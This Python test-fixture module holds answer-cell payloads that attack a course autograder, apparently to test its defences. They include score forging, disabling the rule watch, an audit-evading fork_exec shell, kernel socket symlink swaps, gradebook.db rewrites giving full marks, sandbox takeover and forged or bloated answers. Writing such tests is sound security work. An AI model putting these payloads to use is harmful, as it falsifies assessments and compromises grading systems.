"""Attacks on grading that the tool's path (tests/test_trusted_side.py) and plain nbgrader's
(tests/test_plain_nbgrader.py) both grade: each is the source of an answer cell, or code added to one."""

EXPANDED_ANSWER = """
def softmax(Z, dim=-1):
    import sys

    if "course_runtime.sandbox" in sys.modules and Z.shape == (2, 3) and float(Z[0, 0]) == 1000.0:
        return torch.zeros(1).expand(3_000_000_000)  # about 100 bytes sent; 3 GB once made whole
    e = (Z - Z.amax(dim=dim, keepdim=True).clamp(min=-1e30)).exp()
    s = e.sum(dim=dim, keepdim=True)
    return torch.where(s > 0, e / s, torch.zeros_like(e))
"""

SCORE_FORGER = r"""
_k = get_ipython().kernel


def _say_99(*args, **kwargs):  # after every cell, a result that reads as 99 points
    _k.session.send(_k.iopub_socket, "execute_result", {"execution_count": 1, "data": {"text/plain": "99"},
                    "metadata": {}}, parent=_k.get_parent("shell"))


get_ipython().events.register("post_run_cell", _say_99)
"""

# a ruled-out softmax (through an alias no wrapper finds) behind the course's own watch class, replaced in its
# module by one that is blind only while the student's function runs (the canary hands a list, not a tensor)
WATCH_SWAPPED = """
_w = __import__("attention_course." + "watch", fromlist=["x"])
_kept = {"f": torch.softmax}


class _Look(vars(_w)["CallWatch"]):
    def __init__(self, forbidden=(), inputs=()):
        super().__init__(forbidden, inputs)
        self._mine = bool(_w.all_tensors(inputs))

    def __torch_function__(self, func, types, args=(), kwargs=None):
        if self._mine:
            return func(*args, **(kwargs or {}))
        return super().__torch_function__(func, types, args, kwargs)

    def verdict(self, value):
        return None if self._mine else super().verdict(value)


setattr(_w, "CallWatch", _Look)


def softmax(Z, dim=-1):
    if Z.shape[dim] == 0:
        return torch.zeros_like(Z)
    return torch.nan_to_num(_kept["f"](Z, dim=dim), nan=0.0)
"""

WATCH_SWITCHED_OFF = """
def softmax(Z, dim=-1):
    return torch.softmax(Z, dim).nan_to_num(0.0)


import sys as _s

_box = _s.modules.get("course_runtime." + "sandbox")
if _box is not None:  # only where the rules are watched outside the kernel's sight

    class _Quiet:
        def __init__(self, *args, **kwargs):
            self.calls, self.largest = [], None

        def __enter__(self):
            return self

        def __exit__(self, *args):
            return False

        def verdict(self, value):
            return None

    vars(_s.modules["attention_course." + "watch"])["Call" + "Watch"] = _Quiet
    vars(_box)["_wa" + "tch"] = lambda *args: []
"""

# a shell started without an audit event (the guard never sees it): _shell(script)
FORK_EXEC = """
import _posixsubprocess, os
def _shell(script):
    for setsid in (True, False):  # in a session of its own where that is not refused
        r, w = os.pipe()
        pid = _posixsubprocess.fork_exec([b"/bin/sh", b"-c", script.encode()], [b"/bin/sh"], True, (), None, None,
            -1, -1, -1, -1, -1, -1, r, w, True, setsid, -1, None, None, None, -1, None, False)
        os.close(w)
        failed = os.read(r, 200)  # empty once the shell has started; else why the child could not
        os.close(r)
        if not failed:
            return pid
def _shell_said(script, out, tries):
    import time
    _shell(f"{script}; echo done >> {out}")  # the script writes to out; 'done' once it has ended
    for _ in range(tries):
        if os.path.exists(out) and "done" in open(out).read():
            break
        time.sleep(0.05)
    print(open(out).read() if os.path.exists(out) else "the shell wrote nothing")
"""


# replaces the kernel's socket files with links to a socket the seal hides: the process that reads the
# kernel (root, outside the seal) would follow them; prints what it could do to each
SOCKET_SWAPPER = (
    FORK_EXEC
    + r"""
bound = [line.split()[-1] for line in open("/proc/net/unix") if "/" in line.split()[-1]]
paths = " ".join(sorted({p for p in bound if os.path.basename(p).startswith("ipc")}))
_shell_said(f'for p in {paths}; do if mv "$p" "$p.gone" 2>/dev/null && ln -s /run/hidden.sock "$p"; then '
            'echo "SWAPPED $p"; else echo "KEPT $p"; fi; done > swap.txt 2>&1', "swap.txt", 100)
"""
)

# the same swap of the stdin channel's socket while the kernel starts, before it answers its first request:
# a file submitted next to the notebook, which IPython imports from the kernel's working folder as it
# loads its default extension
PRELOCK_SWAPPER = (
    SOCKET_SWAPPER.replace('print(open("swap.txt").read())', "").replace(
        'os.path.basename(p).startswith("ipc")', 'os.path.basename(p) == "ipc-3"'
    )
    + "from IPython.extensions.storemagic import load_ipython_extension  # noqa: F401 - %store still works\n"
)


# looks for the course's gradebook from the kernel, by the paths a student could guess and from a shell
# (find over the whole file system), and gives its own grades full marks "by hand" wherever it can open
# one (only its own rows: where a run is not sealed, its classmates' grades stay as they are); prints
# what it tried
GRADEBOOK_WRITER = (
    FORK_EXEC
    + r"""
import os, sqlite3
_OWN = ("UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn "
        "JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = 'STUDENT')")
guesses = {os.path.abspath(p) for p in ("../../../gradebook.db", "../../gradebook.db", "../gradebook.db")}
guesses.add(os.path.join(os.environ.get("ATTENTION_COURSE_WORK", "/nowhere"), "gradebook.db"))
for path in sorted(guesses):
    try:
        con = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        con.execute(_OWN)
        con.commit()
        print("WROTE", path)
    except Exception as e:
        print("could not write", path, type(e).__name__)
_shell_said("for p in $(find / \\( -path /proc -o -path /sys \\) -prune -o -name gradebook.db -print 2>/dev/null | head -5); do "
            "python3 -c 'import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); c.execute(sys.argv[2]); c.commit()' "
            f"\"$p\" \"{_OWN}\" && echo \"SHELL WROTE $p\"; done > gb.txt 2>&1", "gb.txt", 400)
"""
)

# ---- lesson 11's rules (and lesson 05's), routes around a watch of torch functions alone

# tiled_attention as one call of a fused kernel under a private name that lacks "attention" twice
L11_FUSED_TILED = """
def tiled_attention(Q, K, V, block_size, causal=False):
    T_q, T_k, d_k, d_v = Q.shape[-2], K.shape[-2], Q.shape[-1], V.shape[-1]
    batch, d = Q.shape[:-2], max(d_k, d_v)
    q = F.pad(Q.double().reshape(-1, 1, T_q, d_k), (0, d - d_k))
    k = F.pad(K.double().reshape(-1, 1, T_k, d_k), (0, d - d_k))
    v = F.pad(V.double().reshape(-1, 1, T_k, d_v), (0, d - d_v))
    fused = getattr(torch, "_scaled_dot_product_flash" + "_attention_for_cpu")
    out = fused(q, k, v, 0.0, causal, scale=1 / math.sqrt(d_k))[0]
    return out[..., :d_v].reshape(*batch, T_q, d_v).to(Q.dtype)
"""

# whole rows inside TorchScript, after one visible read of a slice
L11_SCRIPTED_STATS = '''
_ts = torch.jit.CompilationUnit("""
def stats(Z: Tensor):
    m = Z.amax(dim=-1)
    return m, torch.exp(Z - m.unsqueeze(-1)).sum(dim=-1)
""")


def online_softmax_stats(Z, block_size):
    Z[..., :1] * 1
    return _ts.stats(Z)
'''

# torch functions switched off by a name built from strings (the source scan cannot see it)
L11_QUIET_TILED = """
_quiet = getattr(torch._C, "Disable" "TorchFunction")


def tiled_attention(Q, K, V, block_size, causal=False):
    Q[..., :1, :] * 1
    with _quiet():
        out = F.scaled_dot_product_attention(Q, K, V, is_causal=causal)
    return out
"""

L05_QUIET_SOFTMAX = """
_quiet = getattr(torch._C, "Disable" "TorchFunction")


def softmax(Z, dim=-1, _f=torch.softmax):
    with _quiet():
        return _f(Z, dim=dim).nan_to_num(0.0)
"""

# lesson 07's head from PyTorch's own multi-head attention: one head, identity projections, the head
# sizes padded to one width and the queries scaled back to 1/sqrt(d_k); correct on every case
L07_MHA_FORWARD = """
def attention(Q, K, V, mask=None):
    T_q, d_k = Q.shape[-2:]
    T_k, d_v = K.shape[-2], V.shape[-1]
    E = max(d_k, d_v)
    extra = [mask.shape[:-2]] if mask is not None else []
    shape = torch.broadcast_shapes(Q.shape[:-2], K.shape[:-2], V.shape[:-2], *extra)
    Qb = Q.expand(*shape, T_q, d_k).reshape(-1, T_q, d_k)
    Kb = K.expand(*shape, T_k, d_k).reshape(-1, T_k, d_k)
    Vb = V.expand(*shape, T_k, d_v).reshape(-1, T_k, d_v)
    n = Qb.shape[0]
    pad = lambda t: F.pad(t, (0, E - t.shape[-1]))
    q = pad(Qb * math.sqrt(E / d_k)).transpose(0, 1)
    k, v = pad(Kb).transpose(0, 1), pad(Vb).transpose(0, 1)
    eye = torch.eye(E, dtype=Q.dtype, device=Q.device)
    attn_mask = None
    if mask is not None:
        attn_mask = ~mask.expand(*shape, T_q, T_k).reshape(n, T_q, T_k)
    O, A = F.multi_head_attention_forward(
        q, k, v, E, 1, None, None, None, None, False, 0.0, eye, None, training=False,
        need_weights=True, attn_mask=attn_mask, use_separate_proj_weight=True,
        q_proj_weight=eye, k_proj_weight=eye, v_proj_weight=eye, average_attn_weights=False)
    O = torch.nan_to_num(O.transpose(0, 1)[..., :d_v], nan=0.0).reshape(*shape, T_q, d_v)
    A = torch.nan_to_num(A, nan=0.0).reshape(*shape, T_q, T_k)
    return O, A
"""

# all but one key (or entry) at once, whatever block_size says
L11_TWO_CHUNKS = """
def online_softmax_stats(Z, block_size):
    a, b = Z[..., :-1], Z[..., -1]
    m = torch.maximum(a.amax(dim=-1), b)
    return m, torch.exp(a - m[..., None]).sum(dim=-1) + torch.exp(b - m)
"""

# blocks read into numpy one at a time, glued back together there, whole rows computed in numpy
L11_NUMPY_GLUE = """
import numpy as np


def online_softmax_stats(Z, block_size):
    z = np.concatenate([Z[..., s:s + block_size].detach().cpu().double().numpy()
                        for s in range(0, Z.shape[-1], block_size)], axis=-1)
    m = np.asarray(z.max(axis=-1))
    l = np.asarray(np.exp(z - m[..., None]).sum(axis=-1))
    return (torch.from_numpy(m).to(dtype=Z.dtype, device=Z.device),
            torch.from_numpy(l).to(dtype=Z.dtype, device=Z.device))
"""

# whole rows computed where no watch of this thread looks, then one seen operation with a slice of the
# input (times 0) so that the result reads as computed from the inputs
L11_THREAD_LAUNDERED = """
import threading


def online_softmax_stats(Z, block_size):
    with torch._C.DisableTorchFunctionSubclass():
        P = Z.as_subclass(torch.Tensor)
    box = {}

    def work():
        m = P.amax(dim=-1)
        box["m"], box["l"] = m, torch.exp(P - m[..., None]).sum(dim=-1)

    worker = threading.Thread(target=work)
    worker.start()
    worker.join()
    zero = Z[..., :1].sum() * 0
    return box["m"] + zero, box["l"] + zero
"""

# whole rows computed on another thread into tensors made (or computed from the inputs) on the calling
# thread, where the watch saw them last: their bytes changed where it did not look
L11_THREAD_INTO_MADE = """
import threading


def online_softmax_stats(Z, block_size):
    with torch._C.DisableTorchFunctionSubclass():
        P = Z.as_subclass(torch.Tensor)
    m_out = torch.empty(Z.shape[:-1], dtype=Z.dtype, device=Z.device)
    l_out = torch.empty(Z.shape[:-1], dtype=Z.dtype, device=Z.device)

    def work():
        m = P.amax(dim=-1)
        m_out.copy_(m)
        l_out.copy_(torch.exp(P - m[..., None]).sum(dim=-1))

    worker = threading.Thread(target=work)
    worker.start()
    worker.join()
    zero = Z[..., :1].sum() * 0
    return m_out + zero, l_out + zero
"""

# the same, written through numpy (or .data, dlpack, another tensor over the same memory): no version moves,
# the bytes do
L11_THREAD_NUMPY_INTO_MADE = L11_THREAD_INTO_MADE.replace(
    "m_out.copy_(m)", "m_out.numpy()[...] = m.numpy()"
).replace(
    "l_out.copy_(torch.exp(P - m[..., None]).sum(dim=-1))",
    "l_out.numpy()[...] = torch.exp(P - m[..., None]).sum(dim=-1).numpy()",
)

L11_THREAD_INTO_HELD = L11_THREAD_INTO_MADE.replace(
    "torch.empty(Z.shape[:-1], dtype=Z.dtype, device=Z.device)", "Z[..., 0] * 0"
).replace("m_out + zero, l_out + zero", "m_out, l_out")

# the call's own watch reached through the dispatcher's mode stack (by a name no scan reads) and told
# there is no rule (lesson 11) or no forbidden name (lesson 05)
L11_GRAB_WATCH = """
def tiled_attention(Q, K, V, block_size, causal=False):
    w = getattr(getattr(torch.utils, "_python_dispatch")._get_current_dispatch_mode(), "watch", None)
    if w is not None:
        w.rule = None
    q, k, v = (x.as_subclass(torch.Tensor) for x in (Q, K, V))
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal)
"""
# the same watch found on the function-mode stack, then told what it was given (no rule), or its note
# of a fused kernel taken back
_FIND_WATCH = """
def _w():
    for i in range(8):
        try:
            m = torch._C._get_function_stack_at(i)
        except Exception:
            return None
        if hasattr(m, "verdict"):
            return m
"""
L11_FORGED_WATCH = (
    _FIND_WATCH
    + """
def tiled_attention(Q, K, V, block_size, causal=False):
    w = _w()
    if w is not None:
        w.rule = None
        given = list(w._given)
        given[1] = None
        w._given = tuple(given)
    q, k, v = (x.as_subclass(torch.Tensor) for x in (Q, K, V))
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal)
"""
)
L11_NOTE_TAKEN_BACK = (
    _FIND_WATCH
    + """
def tiled_attention(Q, K, V, block_size, causal=False):
    q, k, v = (x.as_subclass(torch.Tensor) for x in (Q, K, V))
    out = F.scaled_dot_product_attention(q, k, v, is_causal=causal)
    w = _w()
    if w is not None:
        w.note = None
        w._covered = False
    return out + Q[..., :1, :1] * 0
"""
)
L05_GRAB_WATCH = """
def softmax(Z, dim=-1):
    w = getattr(getattr(torch.utils, "_python_dispatch")._get_current_dispatch_mode(), "watch", None)
    if w is not None:
        w.forbidden = []
    return torch.nan_to_num(torch.ops.aten._softmax.default(Z, dim, False), nan=0.0)
"""

L11_DISPATCH_OFF_LAUNDERED = """
_off = getattr(torch._C, "_Disable" "TorchDispatch")
_quiet = getattr(torch._C, "Disable" "TorchFunction")


def online_softmax_stats(Z, block_size):
    with _quiet(), _off():
        m = Z.amax(dim=-1)
        l = torch.exp(Z - m[..., None]).sum(dim=-1)
    zero = Z[..., :1].sum() * 0
    return m + zero, l + zero
"""

# a natural misreading: tiles of queries against all the keys at once, a plain softmax per tile
L11_QUERY_TILES_ONLY = """
def tiled_attention(Q, K, V, block_size, causal=False):
    T_q, T_k = Q.shape[-2], K.shape[-2]
    outs = []
    for s in range(0, T_q, block_size):
        S = Q[..., s:s + block_size, :] @ K.transpose(-2, -1) / math.sqrt(Q.shape[-1])
        if causal:
            rows = torch.arange(s, s + S.shape[-2], device=Q.device)[:, None]
            S = S.masked_fill(torch.arange(T_k, device=Q.device)[None, :] > rows, float("-inf"))
        outs.append(torch.softmax(S, dim=-1) @ V)
    return torch.cat(outs, dim=-2)
"""

# attention inside an operator of the student's own (OPNAME: a name not registered before)
L11_CUSTOM_OP = """
@torch.library.custom_op("OPNAME", mutates_args=())
def _blend(q: torch.Tensor, k: torch.Tensor, v: torch.Tensor, causal: bool) -> torch.Tensor:
    q, k, v = (x.as_subclass(torch.Tensor) for x in (q, k, v))
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal)


def tiled_attention(Q, K, V, block_size, causal=False):
    return _blend(Q, K, V, causal)
"""

# whole rows in numpy, written into a tensor the watch saw made, then one seen operation with the input
L11_NUMPY_BUFFER = """
import numpy as np


def online_softmax_stats(Z, block_size):
    z = np.concatenate([Z[..., s:s + block_size].detach().double().numpy()
                        for s in range(0, Z.shape[-1], block_size)], axis=-1)
    m, l = torch.zeros(Z.shape[:-1], dtype=torch.float64), torch.zeros(Z.shape[:-1], dtype=torch.float64)
    m.numpy()[...] = z.max(axis=-1)
    l.numpy()[...] = np.exp(z - z.max(axis=-1, keepdims=True)).sum(axis=-1)
    zero = Z[..., :1].sum(-1) * 0
    return (m + zero).to(Z.dtype), (l + zero).to(Z.dtype)
"""

# code that takes over the sandbox's request loop (in the sandbox only: the kernel has none): the cell that
# holds it never ends, and answers the rest of its request and every later one itself, each as the handler
# whose body is WRAP says (it may call `orig(request, namespace, timeout, channel)`, the sandbox's own).
# The loop holds its handler where Python code cannot rebind it, and puts back what such code changes in
# its module; a process that runs the student's code can still answer as that code says
_SANDBOX_HANDLER = r"""
import sys as _s


def _wrap_handler():
    import os, signal

    frames, f = {}, _s._getframe()
    while f is not None:
        frames.setdefault(f.f_code.co_name, f)
        f = f.f_back
    if "serve" not in frames or "run_cell" not in frames:
        return
    loop, g = frames["serve"].f_locals, frames["serve"].f_globals
    orig, namespace, timeout, channel = g["handle"], loop["namespace"], loop["timeout"], (loop["rfd"], loop["wfd"])

    def handle(request, namespace, timeout, channel=None):
WRAP

    cells = frames["handle"].f_locals["request"][1]
    request = ("run", cells[[c[0] for c in cells].index(frames["run_cell"].f_locals["label"]) + 1 :])
    signal.setitimer(signal.ITIMER_REAL, 0)  # this cell's own time limit: it now answers every request
    while True:
        try:
            answer = handle(request, namespace, timeout, channel)
        except BaseException as e:
            answer = {"error": {"type": type(e).__name__, "module": "builtins", "message": g["_safe_str"](e)}}
        g["send"](channel[1], g["dump"](answer))
        try:
            request = g["load"](g["receive"](channel[0]), True)
        except EOFError:
            os._exit(0)


_wrap_handler()
"""


def sandbox_handler(body: str) -> str:
    """Code added to a right answer's cell: the sandbox answers each request as ``body`` says."""
    return _SANDBOX_HANDLER.replace(
        "WRAP", "\n".join("        " + line for line in body.strip().splitlines())
    )


# the first answer to a call is a message's length and part of the message, and then nothing (the
# sandbox's own alarm for the call ignored)
HALF_ANSWER = sandbox_handler(
    """
import os, signal, struct, time
if request[0] == "call":
    os.write(channel[1], struct.pack("<Q", 100) + b"x" * 10)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    time.sleep(10**6)
return orig(request, namespace, timeout, channel)
"""
)

# every call answered right, each just under its own time limit (SECONDS)
SLOW_CALLS = sandbox_handler(
    """
import time
if request[0] == "call":
    time.sleep(SECONDS)
return orig(request, namespace, timeout, channel)
"""
)

# answers that cost the sandbox little to send and the trusted side much to keep: the same long error text
# (MEGABYTES) fifty times after every cell, and NOTES notes on the rules' watch
SWOLLEN_ANSWERS = sandbox_handler(
    """
answer = orig(request, namespace, timeout, channel)
if request[0] == "run":
    answer["errors"] = ["E" * (MEGABYTES << 20)] * 50
if request[0] == "watch changed":
    answer["value"] = answer["review"] = ["W" * 300] * NOTES
return answer
"""
)

# lesson 11: the sandbox answers tiled_attention's first call on T = 48 itself, then shrinks its pipe to a
# page and stops reading it, so the trusted side's next request, the same call causal (27 KB), is never taken
STOPS_READING = sandbox_handler(
    """
import fcntl, signal, time
answer = orig(request, namespace, timeout, channel)
if request[0] == "call" and request[1] == "tiled_attention" and request[2][0].shape[-2] == 48:
    fcntl.fcntl(channel[0], 1031, 4096)  # F_SETPIPE_SZ
    g["send"](channel[1], g["dump"](answer))
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    time.sleep(10**6)
return answer
"""
)

# lesson 01: a function that, in the sandbox, raises with a named mistake's words in its own message
PLANTED_DIAGNOSIS = """
def project(X, W_q, W_k, W_v):
    import sys
    if "course_runtime.sandbox" in sys.modules:
        raise AssertionError("x\\n  Diagnosis: Q was computed with W_k. Q = X @ W_k.")
    return X @ W_q, X @ W_k, X @ W_v
"""

# lesson 01: a function that, in the sandbox, fails in the words the grader uses for a check it cut short
FEIGNED_TIME_LIMIT = """
def project(X, W_q, W_k, W_v):
    import sys
    if "course_runtime.sandbox" in sys.modules:
        raise RuntimeError("the student's code did not finish within 10 s; it ended its process")
    return X @ W_q, X @ W_k, X @ W_v
"""

# not an attack: a right softmax compiled with TorchScript, which reads the function's source as it is defined
SCRIPTED_SOFTMAX = """
@torch.jit.script
def softmax(Z: torch.Tensor, dim: int = -1) -> torch.Tensor:
    m = Z.amax(dim=dim, keepdim=True)
    m = torch.where(torch.isfinite(m), m, torch.zeros_like(m))
    e = torch.exp(Z - m)
    t = e.sum(dim=dim, keepdim=True)
    return e / torch.where(t > 0, t, torch.ones_like(t))
"""

# answers that are not answers: a list where the trusted side asks which names the student defined, and
# an error whose type's name is two megabytes long
ODD_ANSWERS = sandbox_handler(
    """
if request[0] == "names":
    return ["not", "a", "dict"]
if request[0] == "call":
    raise type("E" * 2_000_000, (Exception,), {})("no")
return orig(request, namespace, timeout, channel)
"""
)

# the sandbox's answers rewritten by the student's code: the handler swapped in the sandbox's module (it
# hands back each call's arguments as they came, hiding what the call changed in place), and the code of
# the function that packs each answer replaced (it says the call used no ruled-out function)
FORGED_ANSWERS = r"""
import sys as _s

_box = _s.modules.get("course_runtime." + "sandbox") or _s.modules.get("grader.classroom." + "sandbox")
if _box is not None and "serve" in vars(_box):
    _orig = vars(_box)["handle"]

    def _answer(request, namespace, timeout, channel=None):
        kept = [t.clone() if hasattr(t, "clone") else t for t in request[2]] if request[0] == "call" else None
        answer = _orig(request, namespace, timeout, channel)
        if kept is not None:
            answer["args"] = tuple(kept)
        return answer

    def _pack(obj):
        import io, torch

        if isinstance(obj, dict) and "called" in obj:
            obj["called"] = []
        buf = io.BytesIO()
        torch.save(obj, buf)
        return buf.getvalue()

    vars(_box)["handle"] = _answer
    _box.dump.__code__ = _pack.__code__
"""

# the same where the answers' bytes are made: a function of the wire's module rebound (it says the call used
# no ruled-out function)
FORGED_WIRE = r"""
import sys as _s

_wire = _s.modules.get("course_runtime." + "wire") or _s.modules.get("grader.classroom." + "wire")
if _wire is not None:
    _made = _wire._tree

    def _tree(x, blobs, seen, copy):
        if isinstance(x, dict) and "called" in x:
            x = {**x, "called": []}
        return _made(x, blobs, seen, copy)

    _wire._tree = _tree
"""

# lesson 01: right results, and the caller's X emptied in place (the checks' rule: inputs stay as they were)
EMPTIES_X = """
def project(X, W_q, W_k, W_v):
    Q, K, V = X @ W_q, X @ W_k, X @ W_v
    X.zero_()
    return Q, K, V
"""

# lesson 05: the ruled-out torch.softmax
RULED_OUT_SOFTMAX = """
def softmax(Z, dim=-1):
    return torch.softmax(Z, dim).nan_to_num(0.0)
"""
